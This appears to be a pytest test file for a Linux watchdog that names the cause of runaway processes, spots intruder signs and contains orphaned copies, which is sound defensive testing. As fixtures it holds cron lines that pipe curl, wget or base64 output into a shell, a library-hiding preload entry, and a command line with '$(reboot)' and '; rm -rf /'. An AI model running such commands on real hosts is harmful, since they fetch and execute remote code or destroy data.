"""Who makes an innocent process work, what an intruder's program shows, and what was left behind."""

import shlex
import time
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, cast

import pytest
from preflight.host_world import LINK, NOW, EngineWith, FakeFiles, FakeHost
from support.builders import make_cron_job, make_facts, make_process, make_service

from runaway_watchdog import owners
from runaway_watchdog.explain import cause, condition, leftbehind, named, signs, ways
from runaway_watchdog.model.casefile import History, LeftBehind, Sign, suspicious
from runaway_watchdog.model.plan import Plan
from runaway_watchdog.model.process import Facts, Process
from runaway_watchdog.owners.cron import containment as cron
from runaway_watchdog.owners.cron.details import TableLine
from runaway_watchdog.owners.interface import Read
from runaway_watchdog.owners.unmanaged import ORPHAN
from runaway_watchdog.render.shortage import sentence
from runaway_watchdog.world import Clock, Journal, World

UNCLAIMED = Read("unmanaged", "x", "60", "none", ORPHAN, ())
JOURNALD = make_process(200, name="systemd-journal", cgroup="/system.slice/systemd-journald.service")


@dataclass
class FakeJournal:
    found: Sequence[Mapping[str, Any]] = field(default_factory=tuple)

    def entries(self, matches: Sequence[str], limit: int) -> Sequence[Mapping[str, Any]]:
        assert not matches
        return self.found[-limit:]


class StandingClock:
    """Nobody has to wait."""

    def now(self) -> float:
        return NOW

    def sleep(self, seconds: float) -> None:
        pass


def lines(count: int, *, ago_s: float = 1.0, every_s: float = 0.001, **fields: Any) -> list[dict[str, str]]:
    """`count` entries, the last one `ago_s` before now."""
    times = [int((NOW - ago_s - (count - number) * every_s) * 1e6) for number in range(count)]
    return [{"_PID": "77", "__REALTIME_TIMESTAMP": str(each), **fields} for each in times]


def world_with(entries: Sequence[Mapping[str, Any]], host: FakeHost | None = None) -> World:
    return (host or FakeHost()).world._replace(journal=cast(Journal, FakeJournal(entries)))


# --- the cause ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fields", "name", "unit"),
    [
        ({"_SYSTEMD_UNIT": "flood.service"}, "flood.service", "flood.service"),
        ({"_SYSTEMD_UNIT": "docker.service", "CONTAINER_NAME": "shop-web-1"}, "the container shop-web-1", None),
        ({"_SYSTEMD_UNIT": "session-3.scope", "SYSLOG_IDENTIFIER": "backup"}, "the program backup", None),
        ({"_SYSTEMD_UNIT": "cron.service", "_COMM": "run.sh"}, "the program run.sh", None),
    ],
)
def test_who_writes_most_of_the_journal_is_named(fields: dict[str, Any], name: str, unit: str | None) -> None:
    """By its container, its service, or its program where many share a unit."""
    entries = lines(20, every_s=1, _SYSTEMD_UNIT="other.service") + lines(200, **fields)
    found, gaps = cause.cause(world_with(entries), JOURNALD)
    assert gaps == ()
    assert found is not None
    assert (found.name, found.unit, found.pid) == (name, unit, 77)


@pytest.mark.parametrize(
    "entries",
    [
        [],
        lines(100),  # too few to tell: a service that starts says as much
        lines(300, every_s=1),  # one a second is no flood
        lines(300, ago_s=3600),  # an old one is over
        lines(100) + lines(120, _SYSTEMD_UNIT="b.service") + lines(110, _SYSTEMD_UNIT="c.service"),  # nobody stands out
        [{"MESSAGE": "x"}] * 300,  # the kernel's
        [{"_PID": "x", "__REALTIME_TIMESTAMP": "y"}] * 300,
    ],
)
def test_nobody_is_blamed_for_an_ordinary_journal(entries: list[dict[str, str]]) -> None:
    """Too slow, too old, too many writers, or not to be read."""
    assert cause.cause(world_with(entries), JOURNALD)[0] is None


def test_journalds_own_word_counts_only_as_its_own() -> None:
    """A program that writes "Suppressed 9 messages from ssh.service" blames nobody."""
    text: dict[str, Any] = {"MESSAGE": "Suppressed 99999 messages from flood.service", "MESSAGE_ID": cause.SUPPRESSED}
    own = lines(1, _TRANSPORT="driver", **text)
    found, _ = cause.cause(world_with(own), JOURNALD)
    assert found is not None
    assert (found.name, "99999" in found.told) == ("flood.service", True)
    assert cause.cause(world_with(lines(1, _TRANSPORT="stdout", **text)), JOURNALD)[0] is None


def test_only_the_real_journald_is_innocent() -> None:
    """A name can be taken; the unit's group cannot."""
    assert cause.innocent(JOURNALD) is not None
    assert cause.innocent(JOURNALD._replace(cgroup="/payload/system.slice/systemd-journald.service")) is None
    assert cause.innocent(make_process(5, name="kswapd0")) is None
    assert cause.innocent(make_process(5, name="kswapd0", kernel_thread=True)) is not None
    assert cause.innocent(make_process(5, name="ksoftirqd/3", kernel_thread=True)) is not None


def test_a_restart_loop_is_found_for_pid_1() -> None:
    """The unit with the most restarts, if it was started just now."""
    host = FakeHost()
    usec = int(NOW * 1e6)
    host.manager.loaded = {
        "old.service": {"ActiveState": "active", "NRestarts": 900, "ActiveEnterTimestamp": usec - int(3600e6)},
        "crash.service": {
            "ActiveState": "activating",
            "NRestarts": 40,
            "InactiveExitTimestamp": usec,
            "RestartUSec": 50_000,
        },
        "calm.service": {"ActiveState": "active", "NRestarts": 1, "ActiveEnterTimestamp": usec},
    }
    found, _ = cause.cause(host.world, make_process(1, name="systemd"))
    assert found is not None
    assert (found.name, found.unit) == ("crash.service", "crash.service")


def checked(*every_s: float) -> FakeHost:
    """Containers s-0, s-1 … with a health check of each interval in seconds; 0: none. IDs: their number, 64 times."""
    there = []
    for number, seconds in enumerate(every_s):
        check = {"Test": ["CMD", "true"], "Interval": int(seconds * 1e9)} if seconds else {}
        made = {"Config": {"Healthcheck": check}, "HostConfig": {"RestartPolicy": {"Name": "always"}}}
        there.append({"Id": f"{number:x}" * 64, "Name": f"/s-{number}", "State": "running", **made})
    return FakeHost(engine=EngineWith(there, ()))


DOCKERD = make_process(200, name="dockerd", cgroup="/system.slice/docker.service")


@pytest.mark.parametrize(
    ("every_s", "name", "to_blame"),
    [
        ((2, 30), "the container s-0", True),
        ((2, 0, 5, 30), "2 containers", False),
        ((2,) * 14, "14 containers", False),
        ((30,) * 14, None, False),
    ],
)
def test_all_whose_health_is_checked_often_are_named(
    every_s: tuple[int, ...], name: str | None, to_blame: bool
) -> None:
    """Not one of many is stopped for what all of them cause: then the plan only looks."""
    world = world_with((), checked(*every_s))
    found, _ = cause.cause(world, DOCKERD)
    assert (found and found.name) == name
    if found is None:
        return
    assert found.to_blame is to_blame
    if not to_blame:
        assert "s-0" in found.told
        layer = owners.Layer(UNCLAIMED, make_facts(DOCKERD))
        plan = ways.adapted(Plan("stop it", (), ()), layer, found, None, (), world)
        assert [step.risk for step in plan.steps] == ["none"]
        assert "health" in plan.steps[0].command.lower()


def test_a_shim_works_for_its_own_container_alone() -> None:
    """Whatever others do; one of another manager's has nothing to do with the engine's."""
    host = checked(2, 2, 30)
    for number, named_so in ((1, "the container s-1"), (2, None)):
        words = ("/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", f"{number}" * 64)
        shim = make_process(300, name="containerd-shim", cgroup="/system.slice/docker.service", cmdline=words)
        found, _ = cause.cause(world_with((), host), shim)
        assert (found and found.name) == named_so
        others, _ = cause.cause(
            world_with((), host), shim._replace(cmdline=(words[0], "-namespace", "k8s.io", *words[3:]))
        )
        assert others is None


def test_who_eats_the_memory_is_named_for_kswapd() -> None:
    """RAM and swap together."""
    host = FakeHost()
    for pid, kib in ((60, 1000), (70, 4_000_000)):
        host.process(pid, f"/usr/bin/eater-{pid}")
        path = f"/proc/{pid}/status"
        host.files.add(path, host.files.texts[path] + f"VmRSS:\t{kib} kB\nVmSwap:\t0 kB\n")
    found, _ = cause.cause(host.world, make_process(9, name="kswapd0", kernel_thread=True))
    assert found is not None
    assert found.pid == 70
    assert "3.8 GiB" in found.told


@pytest.mark.parametrize("name", ["systemd-journald.service", "docker.service", "rsyslog.service"])
def test_nobody_is_told_to_stop_who_works_for_others(name: str) -> None:
    """With no cause found, the only step is a look."""
    comm = {"systemd-journald.service": "systemd-journal", "docker.service": "dockerd", "rsyslog.service": "rsyslogd"}[
        name
    ]
    process = make_process(200, name=comm, cgroup=f"/system.slice/{name}")
    plan = ways.adapted(
        Plan("stop it", (), ()), owners.Layer(UNCLAIMED, make_facts(process)), None, None, (), FakeHost().world
    )
    assert [step.risk for step in plan.steps] == ["none"]
    assert "stop" not in plan.steps[0].command


WORKERS = [
    ("/system.slice/containerd.service", "containerd", False),
    ("/system.slice/containerd.service", "containerd-shim", False),
    ("/system.slice/docker.service", "containerd-shim", False), ("/system.slice/docker.service", "runc", False),
    ("/", "kworker/u8:2-flush-8:0", True), ("/", "kworker/0:1H", True), ("/", "kcompactd0", True),
    ("/", "kswapd1", True),    ("/", "jbd2/sda1-8", True), ("/", "khugepaged", True),
]  # fmt: skip


@pytest.mark.parametrize(("group", "comm", "kernel"), WORKERS)
def test_who_works_for_the_containers_and_the_kernel_is_no_culprit(group: str, comm: str, kernel: bool) -> None:
    """Their plan only looks; a program that takes such a name elsewhere is stopped as any other."""
    process = make_process(200, name=comm, cgroup=group, kernel_thread=kernel)
    layer = owners.Layer(UNCLAIMED, make_facts(process))
    plan = ways.adapted(Plan("stop it", (), ()), layer, None, None, (), FakeHost().world)
    assert [step.risk for step in plan.steps] == ["none"]
    elsewhere = make_process(200, name=comm, cgroup="/system.slice/evil.service")
    assert cause.innocent(elsewhere) is None


def short_host(kind: str = "memory", stalled: float = 34.0, available: int = 40_000) -> FakeHost:
    """PID 70 holds nearly all of a gigabyte, and has moved most to and from the disk."""
    host = FakeHost()
    for what in ("memory", "io"):
        mean = stalled if what == kind else 0.0
        host.files.add(
            f"/proc/pressure/{what}", f"some avg10=0 avg60=9 total=1\nfull avg10=0.00 avg60={mean} total=1\n"
        )
    host.files.add("/proc/meminfo", f"MemTotal:  1000000 kB\nMemFree:  9 kB\nMemAvailable:  {available} kB\n")
    for pid, kib in ((60, 1000), (70, 900_000)):
        host.process(pid, f"/usr/bin/eater-{pid}", comm=f"eater-{pid}")
        path = f"/proc/{pid}/status"
        host.files.add(path, host.files.texts[path] + f"VmRSS:\t{kib} kB\nRssAnon:\t{kib} kB\nVmSwap:\t0 kB\n")
    return host


def test_a_host_without_memory_says_so_and_who_holds_it() -> None:
    """All that work for others burn then, since what they need is thrown out: whoever holds the memory is named."""
    host = short_host()
    found = named.short_of(host.world)
    assert found is not None
    assert (found.kind, found.waits, found.used, found.user and found.user.pid) == ("memory", 34.0, 96.0, 70)
    assert sentence(found).startswith("This host is out of memory: 96 % of it is in use, and everything")
    assert "eater-70 (70): 879 MiB" in sentence(found)
    dockerd = make_process(200, name="dockerd", cgroup="/system.slice/docker.service")
    blamed, _ = cause.cause(host.world, dockerd)
    assert blamed is not None
    assert (blamed.pid, blamed.to_blame) == (70, False)


@pytest.mark.parametrize(
    ("host", "kind"),
    [
        (short_host(available=400_000), None),  # they wait at a limit of their own
        (short_host(stalled=2.0), None),
        (short_host("io"), "io"),
        (FakeHost(), None),  # a kernel that does not tell
    ],
)
def test_only_what_the_host_lacks_is_called_a_shortage(host: FakeHost, kind: str | None) -> None:
    """Memory that is there, and waits that are rare, are none."""
    found = named.short_of(host.world)
    assert (found and found.kind) == kind
    assert ("waits for its disk" in sentence(found)) is (kind == "io")


def test_the_line_that_starts_an_intruder_again_is_held() -> None:
    """Whatever its script does; what would end the evidence is not done, and no line is commented out twice."""
    table = TableLine("/etc/cron.d/x", 1, "root", "* * * * * root curl http://x | sh\n", of_user=False)
    job, facts = make_cron_job("line 1 of /etc/cron.d/x", table), make_facts(make_process(60))
    contained = cron.contain(job.details, job.name, facts)
    assert contained is not None
    found = (Sign("posing", "a", "b"), Sign("program-file", "c", "d"))
    download = Sign("download", "e", "f", path=table.path)
    world = FakeHost(FakeFiles({table.path: table.text})).world
    for signs_seen in (found, (*found, download)):
        plan = Plan(contained.goal, contained.steps, ())
        steps = ways.adapted(plan, owners.Layer(job, facts), None, None, signs_seen, world).steps
        assert [step.phase for step in steps[:2]] == ["relieve", "save"]
        (held,) = steps[2:]
        assert "sed '1s/^/# held: /'" in held.command


# --- signs -------------------------------------------------------------------------------------------------------


def facts_of(host: FakeHost, pid: int = 60) -> Facts:
    return owners.facts(host.world, pid)[0]


def burner(exe: str = "/usr/bin/burn", words: str = "/usr/bin/burn", **changes: Any) -> FakeHost:
    host = FakeHost()
    host.process(1, "/sbin/init", comm="systemd", ppid=0)
    host.process(60, words, **changes)
    host.files.add("/proc/60/exe", f"{LINK}{exe}")
    return host


@pytest.mark.parametrize(
    ("exe", "sign"),
    [
        ("/tmp/x", True),
        ("/dev/shm/.x/y (deleted)", True),
        ("/memfd:a (deleted)", True),
        ("/usr/bin/.hidden", True),
        ("/usr/bin/gone (deleted)", True),
        ("/usr/bin/upgraded (deleted)", False),
        ("/memfd:runc_cloned:/proc/self/exe (deleted)", False),
        ("/srv/app/.venv/bin/python3", False),
        ("/usr/bin/burn", False),
    ],
)
def test_where_a_program_lies_is_one_sign_at_most(exe: str, sign: bool) -> None:
    """An upgrade puts a new file in place of the deleted one, and runc runs from memory by design."""
    host = burner(exe)
    host.files.add("/proc/60/root/usr/bin/upgraded", "new")
    found = signs.signs(host.world, facts_of(host), [UNCLAIMED], History())
    assert bool(found) is sign
    assert not suspicious(found)


def test_two_kinds_of_signs_are_needed() -> None:
    """Twice the same kind is one."""
    one = Sign("program-file", "a", "b")
    assert not suspicious([one, one])
    assert suspicious([one, Sign("posing", "a", "b")])


@pytest.mark.parametrize("words", ["[kworker/0:1]", "kswapd0", "[ksoftirqd/0]"])
def test_who_poses_as_a_kernel_thread_is_seen(words: str) -> None:
    """The kernel's flag cannot be forged, a name can: this one stands for itself."""
    host = burner(words=words, comm=words[:15])
    found = signs.signs(host.world, facts_of(host), [UNCLAIMED], History())
    assert {each.kind for each in found} == {"posing"}
    assert suspicious(found)


def test_a_celery_worker_does_not_pose() -> None:
    """It writes its title in brackets too."""
    host = burner()
    host.files.add("/proc/60/cmdline", "[celeryd: celery@web:ForkPoolWorker-1]\0")
    assert signs.signs(host.world, facts_of(host), [UNCLAIMED], History()) == ()


@pytest.mark.parametrize(
    ("line", "sign"),
    [
        ("*/5 * * * * root curl -s http://203.0.113.9/x | sh", True),
        ("* * * * * wget -qO- http://x/y.sh | bash -s", True),
        ("* * * * * echo aGk= | base64 -d | bash", True),
        ("# curl http://x | sh", False),
        ("0 3 * * * root curl -fsS https://hc.example/ping", False),
        ("0 3 * * * root /usr/bin/certbot renew", False),
    ],
)
def test_a_line_that_downloads_and_runs_is_a_sign(line: str, sign: bool) -> None:
    """A ping to a monitor is none."""
    host = burner()
    host.files.add("/etc/cron.d/x", f"{line}\n")
    assert bool(signs.signs(host.world, facts_of(host), [UNCLAIMED], History())) is sign


def test_more_signs_are_found_for_one_that_nobody_manages() -> None:
    """A forced library, a return without a keeper."""
    host = burner()
    host.files.add("/proc/60/root/etc/ld.so.preload", "/usr/local/lib/libhide.so\n")
    found = signs.signs(host.world, facts_of(host), [UNCLAIMED], History(returns_seen=3))
    assert {each.kind for each in found} == {"preload", "no-keeper"}
    service = make_service("always", main_pid=60)
    assert signs.signs(host.world, facts_of(host), [service], History(returns_seen=3)) == ()


def test_a_hostile_crontab_is_read_in_no_time() -> None:
    """Whoever writes one must not keep the explanation waiting."""
    host = burner()
    host.files.add("/etc/cron.d/x", "curl " * 30_000 + "\n" + "base64 -d " * 30_000)
    begun = time.process_time()
    signs.signs(host.world, facts_of(host), [UNCLAIMED], History())
    assert time.process_time() - begun < 2


# --- left behind -------------------------------------------------------------------------------------------------


def test_copies_are_counted_and_others_are_not() -> None:
    """The same words, the same user, the same adoptive parent."""
    host = burner(words="/usr/bin/burn --x")
    for pid, words, changes in (
        (61, "/usr/bin/burn --x", {}),
        (62, "/usr/bin/burn --y", {}),
        (63, "/usr/bin/burn --x", {"uid": 33}),
        (64, "/usr/bin/burn --x", {"ppid": 61}),
    ):
        host.process(pid, words, **changes)
    world = host.world._replace(clock=cast(Clock, StandingClock()))
    found = leftbehind.left_behind(world, facts_of(host), UNCLAIMED)
    assert found is not None
    assert found.pids == (60, 61)


@pytest.mark.parametrize(
    ("above", "found"),
    [
        ({50: "sh -c node_x;:"}, True),
        ({50: "sh -c mcp", 40: "npm exec @acme/mcp"}, True),
        ({50: "timeout 900 x"}, True),
        ({50: "/usr/bin/python3 app.py"}, False),
        ({50: "bash"}, False),
        ({50: "sh -c x", 40: "dockerd"}, False),
    ],
)
def test_wrappers_are_climbed_to_the_orphan(above: dict[int, str], found: bool) -> None:
    """They only wait for what they run; any other parent is a caller."""
    host = burner(ppid=50)
    for pid, words in above.items():
        host.process(pid, words, ppid=40 if pid == 50 and 40 in above else 1)
    left = leftbehind.left_behind(host.world, facts_of(host), UNCLAIMED)
    assert (left is not None) is found
    if left is not None:
        assert left.tree == tuple(sorted((*above, 60)))
        containment = leftbehind.containment(left, facts_of(host))
        assert containment is not None
        assert all(f"/proc/{min(above)}/stat" in step.command for step in containment.steps)


def test_copies_of_several_logins_are_one() -> None:
    """Each below a wrapper of its own; one plan picks all by the wrappers' words, and with them what they run."""
    host = burner(ppid=50, words="/usr/bin/node mcp.js")
    for wrapper in (50, 70, 80):
        host.process(wrapper, "sh -c node_mcp.js;:")
        if wrapper != 50:
            host.process(wrapper + 1, "/usr/bin/node mcp.js", ppid=wrapper)
    host.process(90, "/usr/bin/node mcp.js")  # of another way to be started
    world = host.world._replace(clock=cast(Clock, StandingClock()))
    left = leftbehind.left_behind(world, facts_of(host), UNCLAIMED)
    assert left is not None
    assert (left.pids, left.tree) == ((60, 71, 81), (50, 60, 70, 71, 80, 81))
    containment = leftbehind.containment(left, facts_of(host))
    assert containment is not None
    assert "all 3 copies" in containment.goal


@pytest.mark.parametrize(
    ("name", "over", "found"), [("code", True, True), ("code", False, False), ("tmux: server", True, False)]
)
def test_what_a_login_that_is_over_left_is_told_as_that(name: str, over: bool, found: bool) -> None:
    """All of its tree, whatever it is; not what people come back to."""
    scope = "/user.slice/user-0.slice/session-7.scope"
    host = burner(ppid=50, cgroup=scope)
    host.process(50, "/srv/code --x", comm=name, cgroup=scope)
    host.manager.loaded = {"session-7.scope": {"ActiveState": "active", "SubState": "abandoned" if over else "running"}}
    layers, _ = owners.layers(facts_of(host), host.world)
    left = leftbehind.left_behind(host.world, facts_of(host), layers[0].owner)
    assert (left is not None) is found
    if left is not None:
        assert "the login that started it is over (session-7.scope)" in left.why
        assert layers[0].owner.told().facts["over"] is True


def test_a_service_that_waits_for_it_is_a_caller() -> None:
    """A main process has one; what a unit's helper left has none."""
    host = burner()
    main, other = make_service(main_pid=60), make_service(main_pid=17)
    assert leftbehind.left_behind(host.world, facts_of(host), main) is None
    assert leftbehind.left_behind(host.world, facts_of(host), other) is not None


def test_a_hostile_command_line_stays_one_word() -> None:
    """The plan picks the copies by their words, which may be anything."""
    process = make_process(cmdline=("/usr/bin/x", "$(reboot)", "'; rm -rf /", "a.b*[c]"))
    containment = leftbehind.containment(LeftBehind("", (60, 61), None, (60, 61)), make_facts(process))
    assert containment is not None
    for step in containment.steps:
        words = shlex.split(step.command)
        assert "/usr/bin/x \\$\\(reboot\\) '; rm -rf / a\\.b\\*\\[c\\]" in words
        assert not {"rm", "-rf"} & set(words)


# --- the state ---------------------------------------------------------------------------------------------------


def odd(host: FakeHost, process: Process) -> tuple[str, ...]:
    return condition.condition(host.world.files, process)


def test_the_state_is_told_in_words() -> None:
    """Where it waits, who holds it, how it ended."""
    host = burner()
    host.files.add("/proc/40/comm", "gdb\n")
    host.files.add("/proc/60/wchan", "nfs_wait_bit_killable")
    assert "nfs_wait_bit_killable" in odd(host, make_process(60, state="disk-sleep"))[0]
    path = "/proc/60/status"
    host.files.add(path, host.files.texts[path] + "TracerPid:\t40\n")
    assert odd(host, make_process(60, state="traced"))[0].startswith("gdb (PID 40)")
    host.files.add("/proc/60/stat", "60 (burn) Z 1 " + "0 " * 47 + "9")
    assert "ended by SIGKILL" in odd(host, make_process(60, state="zombie"))[0]
    assert odd(host, make_process(60)) == ()
